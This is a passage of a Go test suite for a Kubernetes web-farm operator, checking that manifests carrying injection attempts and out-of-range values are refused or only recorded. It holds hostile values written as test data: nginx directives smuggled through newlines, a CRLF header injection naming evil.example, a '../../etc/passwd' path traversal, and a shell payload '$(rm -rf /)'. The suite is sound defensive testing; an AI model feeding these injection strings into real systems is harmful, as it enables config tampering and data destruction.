			manifests: []string{appVolumes(`{name: a, mountPath: /etc/a, configMap: {name: ` + q(injection) + `}}, {name: b, mountPath: /etc/b, persistentVolumeClaim: {claimName: ` + q("files\n") + `}}`)},
			refused:   []string{"spec.app.volumes[0].configMap.name", namePattern, "spec.app.volumes[1].persistentVolumeClaim.claimName"},
		},

		// Names.
		{
			name:      "a WebFarm name with a dot is refused",
			manifests: []string{manifest("WebFarm", "farm.evil", `{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{"a WebFarm name must be a DNS label"},
		},
		{
			name:      "an AppPool name longer than 50 characters is refused",
			manifests: []string{poolNamed(longName+"x", `{content: {configMap: {name: site}}}`)},
			refused:   []string{"an AppPool name may be at most 50 characters (its children add a suffix)"},
		},
		{
			name:      "an object name longer than 253 characters is refused",
			manifests: []string{manifest("CachePolicy", strings.Repeat("c", 254), "")},
			refused:   []string{"metadata.name: Invalid value", "must be no more than 253 characters"},
		},
		{
			name:      "a site name with a newline is refused",
			manifests: []string{farm(`{sites: [{name: ` + q("www\nvirtual_hosts") + `, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sites[0].name", "www\nvirtual_hosts"), namePattern},
		},
		{
			name: "names at their limits (50-character farm, pool and policy, 63-character site and ConfigMap) are rendered",
			manifests: []string{
				poolNamed(longName, `{content: {configMap: {name: `+label63+`}}}`),
				webPool,
				manifest("CachePolicy", longName, ""),
				manifest("WebFarm", longName, `{sites: [{name: `+label63+`, hosts: [www.example.com], routes: [{appPool: `+longName+`}, {pathPrefix: /c, appPool: web, cachePolicy: `+longName+`}]}]}`),
			},
			check: func(t *testing.T, _ string, r *rendered) {
				if _, ok := r.bootstrap[longName]; !ok {
					t.Error("the farm was not rendered")
				}
				if len(r.caches[longName].Upstreams) != 1 {
					t.Error("the cache tier does not front the pool")
				}
			},
		},
		{
			name: "a pool with a 50-character name behind a cache tier passes nginx -t",
			manifests: []string{
				poolNamed(longName, `{content: {configMap: {name: site}}}`),
				cachePolicy(""),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: ` + longName + `, cachePolicy: cache}]}]}`),
			},
		},
		{
			name: "routes to 63-character pool and policy names no object can have are rendered",
			manifests: []string{webPool,
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}, {pathPrefix: /x, appPool: ` + label63 + `, cachePolicy: ` + label63 + `}]}]}`)},
		},
		{
			name: "pools named like nginx map parameters and escapes behind a cache tier are each routed by name",
			manifests: []string{
				poolNamed("default", `{content: {configMap: {name: site}}}`),
				poolNamed("include", `{content: {configMap: {name: site}}}`),
				poolNamed("hostnames", `{content: {configMap: {name: site}}}`),
				poolNamed("volatile", `{content: {configMap: {name: site}}}`),
				poolNamed("test", `{content: {configMap: {name: site}}}`),
				poolNamed("news", `{content: {configMap: {name: site}}}`),
				poolNamed("root", `{content: {configMap: {name: site}}}`),
				cachePolicy(""),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [` +
					`{pathPrefix: /, appPool: default, cachePolicy: cache}, {pathPrefix: /a, appPool: include, cachePolicy: cache}, ` +
					`{pathPrefix: /b, appPool: hostnames, cachePolicy: cache}, {pathPrefix: /c, appPool: volatile, cachePolicy: cache}, ` +
					`{pathPrefix: /d, appPool: test, cachePolicy: cache}, {pathPrefix: /e, appPool: news, cachePolicy: cache}, ` +
					`{pathPrefix: /f, appPool: root, cachePolicy: cache}]}]}`),
			},
			check: func(t *testing.T, _ string, r *rendered) {
				if n := len(r.caches["cache"].Upstreams); n != 7 {
					t.Errorf("the cache tier fronts %d pools, want 7", n)
				}
			},
		},

		// Control characters in the other strings.
		{
			name:      "a duration with a newline is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, healthCheck: {interval: ` + q("30s\nproxy_pass http://evil") + `}}`)},
			refused:   []string{invalid("spec.healthCheck.interval", "30s\nproxy_pass http://evil"), durPattern},
		},
		{
			name:      "a ping interval with nginx syntax is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, healthCheck: {pingInterval: "30s; return 200"}}`)},
			refused:   []string{invalid("spec.healthCheck.pingInterval", "30s; return 200"), durPattern},
		},
		{
			name:      "a ping interval of 0s, which would ping without pause, is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, healthCheck: {pingInterval: 0s}}`)},
			refused:   []string{"spec.healthCheck.pingInterval", "healthCheck pingInterval must be between 1s and 1h"},
		},
		{
			name:      "a ping response time of a day is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000}, healthCheck: {pingResponseTime: 24h}}`)},
			refused:   []string{"spec.healthCheck.pingResponseTime", "healthCheck pingResponseTime must be between 1s and 10m"},
		},
		{
			name:      "a startup time limit of 0s, which would restart every worker as it starts, is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000}, healthCheck: {startupTimeLimit: 0s}}`)},
			refused:   []string{"spec.healthCheck.startupTimeLimit", "healthCheck startupTimeLimit must be between 1s and 1h"},
		},
		{
			name:      "a shutdown time limit that leaves no room for the drain pause is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000}, healthCheck: {shutdownTimeLimit: 5s}}`)},
			refused: []string{"spec.healthCheck.shutdownTimeLimit",
				"healthCheck shutdownTimeLimit must be longer than the 10s drain pause a leaving worker keeps serving for"},
		},
		{
			name:      "a shutdown time limit of a year is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000}, healthCheck: {shutdownTimeLimit: 8760h}}`)},
			refused:   []string{"spec.healthCheck.shutdownTimeLimit", "healthCheck shutdownTimeLimit must be between 1s and 1h"},
		},
		{
			name:      "a queue timeout with nginx syntax is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, queue: {timeout: "1h; return 200"}}`)},
			refused:   []string{invalid("spec.queue.timeout", "1h; return 200"), durPattern},
		},
		{
			name:      "a health check path with a CRLF and a header is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, healthCheck: {path: ` + q("/healthz\r\nHost: evil.example") + `}}`)},
			refused:   []string{invalid("spec.healthCheck.path", "/healthz\r\nHost: evil.example"), pathPattern},
		},
		{
			name:      "an unavailable response with a trailing newline is refused",
			manifests: []string{farm(`{unavailableResponse: ` + q("L7\n") + `, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{`spec.unavailableResponse: Unsupported value: "L7\n"`, `supported values: "L7", "L4"`},
		},
		{
			name:      "a CPU quantity with a newline is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, cpu: ` + q("500m\n") + `}`)},
			refused:   []string{invalid("spec.cpu", "500m\n"), "should match"},
		},
		{
			name:      "a client cache mode with an nginx directive is refused",
			manifests: []string{cachePolicy(`{clientCache: {mode: "UseMaxAge; add_header X-Evil 1", maxAge: 1h}}`)},
			refused:   []string{`spec.clientCache.mode: Unsupported value: "UseMaxAge; add_header X-Evil 1"`},
		},
		{
			name:      "an object TTL with a NUL byte is refused",
			manifests: []string{cachePolicy(`{objectTTL: ` + q("30s\x00") + `}`)},
			refused:   []string{invalid("spec.objectTTL", "30s\x00"), durPattern},
		},

		// Huge, negative and out-of-range values.
		{
			name:      "negative pool replicas are refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, replicas: -1}`)},
			refused:   []string{invalid("spec.replicas", -1), "should be greater than or equal to 0"},
		},
		{
			name:      "pool replicas past int32 are refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, replicas: 4294967297}`)},
			refused:   []string{invalid("spec.replicas", 4294967297), "should be less than or equal to 1000"},
		},
		{
			name:      "a pool CPU over 64 is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, cpu: "1e3"}`)},
			refused:   []string{"spec.cpu", "cpu must be between 10m and 64"},
		},
		{
			name:      "a negative pool memory is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, memory: -16Mi}`)},
			refused:   []string{"spec.memory", "memory must be between 16Mi and 1Ti"},
		},
		{
			name:      "a pool memory of 2^64 + 16Mi bytes is refused (it would wrap around to a 16Mi limit)",
			manifests: []string{pool(`{content: {configMap: {name: site}}, memory: "18446744073726328832"}`)},
			refused:   []string{"spec.memory", "memory must be between 16Mi and 1Ti"},
		},
		{
			name:      "a pool memory of 1e100 bytes is refused (it would wrap around to no limit)",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000}, memory: "1e100"}`)},
			refused:   []string{"spec.memory", "memory must be between 16Mi and 1Ti"},
		},
		{
			name:      "a frontend memory of 2^63 bytes is refused (it would wrap around to a negative limit)",
			manifests: []string{webPool, farm(`{frontend: {memory: "9223372036854775808"}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.frontend.memory", "frontend memory must be between 16Mi and 1Ti"},
		},
		{
			name:      "a queue length below 10 is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, queue: {length: 9}}`)},
			refused:   []string{invalid("spec.queue.length", 9), "should be greater than or equal to 10"},
		},
		{
			name:      "a queue length over 65535 is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, queue: {length: 65536}}`)},
			refused:   []string{invalid("spec.queue.length", 65536), "should be less than or equal to 65535"},
		},
		{
			name:      "zero concurrent requests are refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, maxConcurrentRequests: 0}`)},
			refused:   []string{invalid("spec.maxConcurrentRequests", 0), "should be greater than or equal to 1"},
		},
		{
			name:      "a queue timeout over an hour is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, queue: {timeout: 61m}}`)},
			refused:   []string{invalid("spec.queue.timeout", "61m"), "queue timeout must be between 100ms and 1h"},
		},
		{
			name:      "a negative timeout is refused",
			manifests: []string{farm(`{frontend: {requestTimeout: -1s}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.frontend.requestTimeout", "-1s"), durPattern},
		},
		{
			name:      "a duration with more digits than the schema allows is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {interval: 9999999h}}`)},
			refused:   []string{invalid("spec.recycling.interval", "9999999h"), durPattern},
		},
		{
			name:      "a recycling time of day past 23:59 is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {schedule: {times: ["24:00"]}}}`)},
			refused:   []string{"spec.recycling.schedule.times[0]", "should match"},
		},
		{
			name:      "a recycling time of day with a directive after it is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {schedule: {times: [` + q("03:00\n}; a") + `]}}}`)},
			refused:   []string{"spec.recycling.schedule.times[0]", "may not be more than 5 bytes"},
		},
		{
			name:      "a recycling time zone that is a path out of the zone database is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {schedule: {times: ["03:00"], timeZone: "../../etc/passwd"}}}`)},
			refused:   []string{"spec.recycling.schedule.timeZone", "should match"},
		},
		{
			name:      "a recycling time zone without times is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {schedule: {timeZone: Europe/Berlin}}}`)},
			refused:   []string{"spec.recycling.schedule", "a recycling schedule's timeZone needs times"},
		},
		{
			name:      "a recycling time zone the zone database does not know is reported by the model",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {schedule: {times: ["03:00"], timeZone: Mars/Olympus_Mons}}}`)},
			modelErr:  []string{`recycling.schedule.timeZone: "Mars/Olympus_Mons" is not a known IANA time zone`},
			newFields: true,
		},
		{
			name:      "a recycling request limit below 1000 is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, recycling: {requests: 10}}`)},
			refused:   []string{"spec.recycling.requests", "should be greater than or equal to 1000"},
		},
		{
			name:      "a zero connection timeout is refused",
			manifests: []string{farm(`{frontend: {connectionTimeout: 0s}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.frontend.connectionTimeout", "0s"), "connectionTimeout must be between 1s and 1h"},
		},
		{
			name:      "a cache memory size over 64Gi is refused",
			manifests: []string{cachePolicy(`{memorySize: 65Gi}`)},
			refused:   []string{"spec.memorySize", "memorySize must be between 1Mi and 64Gi"},
		},
		{
			name:      "a max object size over the memory size is refused",
			manifests: []string{cachePolicy(`{memorySize: 1Mi, maxObjectSize: 2Mi}`)},
			refused:   []string{"spec: Invalid value", "maxObjectSize must not exceed memorySize"},
		},
		{
			name:      "a huge max object size with the default memory size is refused",
			manifests: []string{cachePolicy(`{maxObjectSize: "1e100"}`)},
			refused:   []string{"maxObjectSize must not exceed memorySize"},
		},
		{
			name:      "a negative max object size is refused",
			manifests: []string{cachePolicy(`{maxObjectSize: -1Ki}`)},
			refused:   []string{"spec.maxObjectSize", "maxObjectSize must be at least 1Ki"},
		},
		{
			name: "a cache tier at its largest values is rendered",
			manifests: []string{webPool,
				cachePolicy(`{frequentHitThreshold: 1000, frequentHitPeriod: 24h, objectTTL: 720h, maxObjectSize: 64Gi, memorySize: 64Gi, ` +
					`cacheQueryStrings: true, clientCache: {mode: UseMaxAge, maxAge: 8760h}, replicas: 100, cpu: "64"}`),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web, cachePolicy: cache}]}]}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				if !strings.Contains(r.cacheConf["cache"], "max_size=54975581384 ") || !strings.Contains(r.cacheConf["cache"], `"max-age=31536000"`) {
					t.Errorf("the cache tier's limits are not the manifest's (nginx evicts above 80 %% of memorySize)\n%s", excerpt(r.cacheConf["cache"]))
				}
			},
		},
		{
			name: "a pool and frontend at their largest values are rendered",
			manifests: []string{
				pool(`{content: {configMap: {name: site}}, app: {image: registry.example.com/shop:2.1, port: 65535}, replicas: 1000, cpu: "64", memory: 1Ti, ` +
					`maxConcurrentRequests: 100000, queue: {length: 65535, timeout: 1h}, healthCheck: {interval: 1h, timeout: 5m, failureThreshold: 100}, ` +
					`rapidFailProtection: {maxFailures: 10000, interval: 24h}, idle: {timeout: 720h}, recycling: {interval: 999999h, requests: 9223372036854775807}}`),
				farm(`{frontend: {replicas: 100, connectionTimeout: 1h, requestTimeout: 1h, cpu: "64", memory: 1Ti, service: {type: LoadBalancer, port: 65535}}, ` +
					`sessionAffinity: {type: ClassC}, unavailableResponse: L4, ` +
					`sites: [{name: www, hosts: [www.example.com], maxBandwidthBytesPerSecond: 9223372036854775807, routes: [{appPool: web}]}]}`),
			},
			check: func(t *testing.T, _ string, r *rendered) {
				if !strings.Contains(r.poolConf["web"], "worker_processes 64;") || !strings.Contains(r.poolConf["web"], "set $webfarm_queue_timeout_ms 3600000;") {
					t.Errorf("the pool's limits are not the manifest's\n%s", excerpt(r.poolConf["web"]))
				}
				// Health monitoring keeps IIS's limits (the earlier CRDs this
				// table is also stored under know no other).
				pod := r.poolObjs["web"].Deployment.Spec.Template.Spec
				if g := *pod.TerminationGracePeriodSeconds; g != 90 || !strings.Contains(r.poolConf["web"], "worker_shutdown_timeout 80s;") {
					t.Errorf("the default shutdown time limit gave a grace period of %ds and nginx %q", g, excerpt(r.poolConf["web"]))
				}
				for _, c := range pod.Containers {
					if *c.Name == "app" && (*c.LivenessProbe.TimeoutSeconds != 90 || *c.StartupProbe.FailureThreshold != 90) {
						t.Errorf("the app's ping waits %ds and its start %d pings, want 90 and 90", *c.LivenessProbe.TimeoutSeconds, *c.StartupProbe.FailureThreshold)
					}
				}
			},
		},
		{
			name:      "an app port nginx listens on is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 8080}}`)},
			refused:   []string{"spec.app.port", "app port may not be 8080 or 8081: nginx listens there"},
		},
		{
			name:      "a privileged app port is refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 80}}`)},
			refused:   []string{invalid("spec.app.port", 80), "should be greater than or equal to 1024"},
		},
		{
			name:      "a frontend Service port over 65535 is refused",
			manifests: []string{farm(`{frontend: {service: {port: 65536}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.frontend.service.port", 65536), "should be less than or equal to 65535"},
		},
		{
			name:      "a node port on a ClusterIP Service is refused",
			manifests: []string{farm(`{frontend: {service: {nodePort: 30080}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.frontend.service: Invalid value", "nodePort needs type NodePort or LoadBalancer"},
		},
		{
			name:      "no frontend replicas are refused",
			manifests: []string{farm(`{frontend: {replicas: 0}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.frontend.replicas", 0), "should be greater than or equal to 1"},
		},
		{
			name:      "autoscaling with fewer maximum than minimum replicas is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, autoscaling: {minReplicas: 10, maxReplicas: 2}}`)},
			refused:   []string{"spec.autoscaling: Invalid value", "minReplicas must be less than or equal to maxReplicas"},
		},
		{
			name:      "a CPU limit over 100 percent is refused",
			manifests: []string{pool(`{content: {configMap: {name: site}}, cpuLimit: {percent: 101, action: Shutdown}}`)},
			refused:   []string{invalid("spec.cpuLimit.percent", 101), "should be less than or equal to 100"},
		},
		{
			name:      "a negative site bandwidth is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], maxBandwidthBytesPerSecond: -1, routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sites[0].maxBandwidthBytesPerSecond", -1), "should be greater than or equal to 1024"},
		},
		{
			name:      "a site bandwidth under 1 KiB/s is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], maxBandwidthBytesPerSecond: 1023, routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sites[0].maxBandwidthBytesPerSecond", 1023), "should be greater than or equal to 1024"},
		},
		{
			name:      "a connection bound on a plain HTTP site is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], maxConnections: 10, routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.sites[0]: Invalid value", "maxConnections counts a site's HTTPS connections"},
		},
		{
			name:      "a connection bound written as a string is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], maxConnections: "10; drop", tls: {secretName: www-tls}, routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.sites[0].maxConnections: Invalid value", "must be of type integer"},
		},
		{
			name:      "a negative connection bound is refused",
			manifests: []string{farm(`{sites: [{name: www, hosts: [www.example.com], maxConnections: -1, tls: {secretName: www-tls}, routes: [{appPool: web}]}]}`)},
			refused:   []string{invalid("spec.sites[0].maxConnections", -1), "should be greater than or equal to 1"},
		},
		{
			name:      "compression written as a string is refused",
			manifests: []string{farm(`{frontend: {compression: "gzip; brotli"}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			refused:   []string{"spec.frontend.compression: Invalid value", "must be of type boolean"},
		},
		{
			name: "bandwidth limits are each site's own, rounded down to whole KiB/s, with compression and keep-alive off",
			manifests: []string{webPool, farm(`{frontend: {compression: true, keepAlive: false}, sites: [` +
				`{name: slow, hosts: [slow.example.com], maxBandwidthBytesPerSecond: 2047, routes: [{appPool: web}]}, ` +
				`{name: huge, hosts: [huge.example.com], maxBandwidthBytesPerSecond: 9223372036854775807, routes: [{appPool: web}]}, ` +
				`{name: free, hosts: [free.example.com], routes: [{appPool: web}]}]}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				got := map[string]uint64{}
				for _, vh := range r.routing["farm"].Routes[0].VirtualHosts {
					if a := vh.TypedPerFilterConfig["envoy.filters.http.bandwidth_limit"]; a != nil {
						var limit bandwidthv3.BandwidthLimit
						if err := a.UnmarshalTo(&limit); err != nil {
							t.Fatal(err)
						}
						got[vh.Name] = limit.GetLimitKbps().GetValue()
					}
				}
				if want := map[string]uint64{"slow": 1, "huge": math.MaxInt64 / 1024}; !maps.Equal(got, want) {
					t.Errorf("KiB/s limits by site %v, want %v", got, want)
				}
				if !r.farms["farm"].Frontend.Compression || r.farms["farm"].Frontend.KeepAlive {
					t.Errorf("frontend %+v, want compression on and keep-alive off", r.farms["farm"].Frontend)
				}
			},
		},
		{
			name:      "more than 64 app arguments are refused",
			manifests: []string{pool(`{app: {image: registry.example.com/shop:2.1, port: 3000, args: [` + strings.TrimSuffix(strings.Repeat("a, ", 65), ", ") + `]}}`)},
			refused:   []string{"spec.app.args: Too many: 65: must have at most 64 items"},
		},

		{
			// The node port range is the cluster's setting (30000-32767 by
			// default): the schema cannot know it, the API server says it.
			name:      "a node port outside the cluster's node port range is reported when the frontend Service is applied",
			manifests: []string{webPool, farm(`{frontend: {service: {type: NodePort, nodePort: 80}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			applyErr:  []string{`Service "farm-frontend" is invalid: spec.ports[0].nodePort: Invalid value: 80: provided port is not in the valid range`},
		},
		{
			name:      "a node port inside the cluster's node port range is applied",
			manifests: []string{webPool, farm(`{frontend: {service: {type: LoadBalancer, nodePort: 30080}}, sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
		},
		{
			name:      "a health check timeout longer than its interval is rendered",
			manifests: []string{pool(`{content: {configMap: {name: site}}, healthCheck: {interval: 1s, timeout: 5m}}`)},
		},
		{
			name:      "a 512-character image reference is rendered",
			manifests: []string{pool(`{app: {image: ` + "registry.example.com/" + strings.Repeat("x", 512-len("registry.example.com/")-len(":1")) + `:1, port: 3000}}`)},
		},
		{
			name: "the same host name in two farms is rendered by each farm's own frontend",
			manifests: []string{webPool, farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`),
				manifest("WebFarm", "other", `{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web}]}]}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				checkDomains(t, r, "farm", []string{"www.example.com"})
				checkDomains(t, r, "other", []string{"www.example.com"})
			},
		},
		{
			name: "a cache policy and a pool with the same name are rendered apart",
			manifests: []string{webPool, manifest("CachePolicy", "web", ""),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web, cachePolicy: web}]}]}`)},
			check: func(t *testing.T, _ string, r *rendered) {
				var names []string
				for _, c := range r.routing["farm"].Clusters {
					names = append(names, c.Name)
				}
				if !slices.Equal(names, []string{"cache/web", "pool/web"}) {
					t.Errorf("the farm's clusters are %q", names)
				}
			},
		},
		{
			name:      "a content ConfigMap naming the pool's own generated ConfigMap is rendered",
			manifests: []string{pool(`{content: {configMap: {name: web-pool}}}`)},
		},

		// The purge annotation: any value is accepted; it is only compared.
		{
			name: "a purge token with newlines, NULs and nginx syntax is accepted and only recorded",
			manifests: []string{webPool,
				withPurge(cachePolicy(""), injection+"\x00\r\n\u2028"),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web, cachePolicy: cache}]}]}`)},
			absent: []string{injection, "pwned"},
			check:  checkPurgeRecorded(injection + "\x00\r\n\u2028"),
		},
		{
			name: "a purge token with shell and Envoy JSON syntax is accepted and only recorded",
			manifests: []string{webPool,
				withPurge(cachePolicy(""), "$(rm -rf /)`id`"+envoyInjection),
				farm(`{sites: [{name: www, hosts: [www.example.com], routes: [{appPool: web, cachePolicy: cache}]}]}`)},
			absent: []string{"rm -rf", envoyInjection},
			check:  checkPurgeRecorded("$(rm -rf /)`id`" + envoyInjection),
		},
		{
			name:      "an empty purge token on a policy no route names is accepted",
			manifests: []string{withPurge(cachePolicy(""), "")},
		},
		{
			name:      "a purge token over the API server's 256 KiB of annotations is refused",
			manifests: []string{withPurge(cachePolicy(""), longToken)},
			refused:   []string{"metadata.annotations: Too long: may not be more than 262144 bytes"},
		},
	}, append(frontendCases(), placementCases()...)...)
}

// checkDomains fails unless the farm's one virtual host answers exactly hosts.
func checkDomains(t *testing.T, r *rendered, farm string, hosts []string) {
	t.Helper()
	routing, ok := r.routing[farm]
	if !ok {
		t.Fatalf("WebFarm %s was not rendered", farm)
	}
	got := routing.Routes[0].VirtualHosts[0].Domains
	if !slices.Equal(got, hosts) {
		t.Errorf("the virtual host answers %q, want %q", got, hosts)
	}
}

// checkPrefixRewrite fails unless the route of prefix matches it by whole
// segments and its rewrite matches the prefix literally (its dots escaped).
func checkPrefixRewrite(t *testing.T, r *rendered, farm, prefix string) {
	t.Helper()
	for _, vh := range r.routing[farm].Routes[0].VirtualHosts {
		for _, rt := range vh.Routes {
			if rt.Match.GetPathSeparatedPrefix() != prefix {
				continue
			}
			re, err := regexp.Compile(rt.GetRoute().GetRegexRewrite().GetPattern().GetRegex())
			if err != nil {
				t.Fatal(err)
			}
			if !re.MatchString(prefix + "/index.html") {
				t.Errorf("the rewrite %s does not match its own prefix", re)
			}
			if re.MatchString(strings.ReplaceAll(prefix, ".", "x")) {
				t.Errorf("the rewrite %s treats the prefix's dots as wildcards", re)
			}
			return
		}
	}
	t.Errorf("no route matches the prefix %q by segments", prefix)
}

// checkPurgeRecorded records the purge token in the policy's status as the
// CachePolicy controller does after a purge: the API server must take it back.
func checkPurgeRecorded(token string) func(t *testing.T, ns string, r *rendered) {
	return func(t *testing.T, ns string, r *rendered) {
		t.Helper()
		ctx := context.Background()
		var cp v1.CachePolicy
		if err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: "cache"}, &cp); err != nil {
			t.Fatal(err)
		}
		if got := cp.Annotations[v1.PurgeAnnotation]; got != token {
			t.Fatalf("the API server stored the purge token as %q, want %q", got, token)
		}
		before := cp.DeepCopy()
		cp.Status.LastPurge = &v1.CachePurge{Token: token, Time: metav1.Time{Time: time.Now().Truncate(time.Second)}}
		if err := k8s.Status().Patch(ctx, &cp, client.MergeFrom(before)); err != nil {
			t.Fatalf("recording the purge in the status: %v", err)
		}
		if err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: "cache"}, &cp); err != nil {
			t.Fatal(err)
		}
		if cp.Status.LastPurge == nil || cp.Status.LastPurge.Token != token {
			t.Errorf("the status holds the purge token as %v, want %q", cp.Status.LastPurge, token)
		}
	}
}

// celFailures are parts of messages that mean a CEL rule failed to run rather
// than judged the object: a person could not act on them.
var celFailures = []string{"type conversion error", "evaluating rule", "evaluation error", "no such key", "no such overload", "cost budget", "Internal error"}

func TestHostileManifests(t *testing.T) {
	cases := hostileCases()
	names := map[string]bool{}
	for _, tc := range cases {
		if names[tc.name] {
			t.Fatalf("two cases are named %q", tc.name)
		}
		names[tc.name] = true
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			ns := newNamespace(t)
			for _, m := range tc.manifests[:len(tc.manifests)-1] {
				if _, err := apply(t, ns, m); err != nil {
					t.Fatalf("the API server refused a manifest the case needs: %v\n%s", shorten(err.Error()), excerpt(m))
				}
			}
			last := tc.manifests[len(tc.manifests)-1]
			obj, err := apply(t, ns, last)
			if tc.refused != nil {
				checkRefused(t, tc, err)
				return
			}
			if err != nil {
				t.Fatalf("the API server refused the manifest: %v", shorten(err.Error()))
			}

			r := renderNamespace(t, k8s, ns)
			key := obj.GetKind() + "/" + obj.GetName()
			for k, err := range r.modelErrs {
				want := tc.modelErr
				if want == nil {
					want = tc.modelMay
				}
				if k != key || want == nil {
					t.Errorf("the model refused %s, which the API server accepted: %v", k, shorten(err.Error()))
					continue
				}
				t.Logf("the model says: %s", shorten(err.Error()))
				for _, w := range want {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("the model's error does not contain %q: %s", w, shorten(err.Error()))
					}
				}
				checkStatusCondition(t, ns, obj.GetKind(), obj.GetName(), err)
			}
			if tc.modelErr != nil && r.modelErrs[key] == nil {
				t.Errorf("the model accepted %s; want an error containing %q", key, tc.modelErr)
			}
			for _, e := range r.applyErrs {
				if tc.applyErr == nil {
					t.Errorf("%s (the controller would report ApplyFailed)", shorten(e))
					continue
				}
				t.Logf("%s", shorten(e))
				for _, w := range tc.applyErr {
					if !strings.Contains(e, w) {
						t.Errorf("the apply error does not contain %q: %s", w, shorten(e))
					}
				}
			}
			if tc.applyErr != nil && len(r.applyErrs) == 0 {
				t.Errorf("Kubernetes accepted every child object; want an error containing %q", tc.applyErr)
			}
			checkAbsent(t, r, tc.absent)
			if tc.check != nil && !t.Failed() {
				tc.check(t, ns, r)
			}
		})
	}
}

func checkRefused(t *testing.T, tc hostileCase, err error) {
	t.Helper()
	if err == nil {
		t.Fatalf("the API server accepted the manifest; want an error containing %q", tc.refused)
	}
	reason := tc.reason
	if reason == "" {
		reason = metav1.StatusReasonInvalid
	}
	if got := apierrors.ReasonForError(err); got != reason {
		t.Errorf("want a %s error, got %s: %v", reason, got, shorten(err.Error()))
	}
	msg := err.Error()
	t.Logf("the API server says: %s", shorten(msg))
	for _, w := range tc.refused {
		if !strings.Contains(msg, w) {
			t.Errorf("the error does not contain %q:\n%s", w, shorten(msg))
		}
	}
	for _, bad := range celFailures {
		if strings.Contains(msg, bad) {
			t.Errorf("the error contains %q, a rule that failed to run:\n%s", bad, shorten(msg))
		}
	}
}
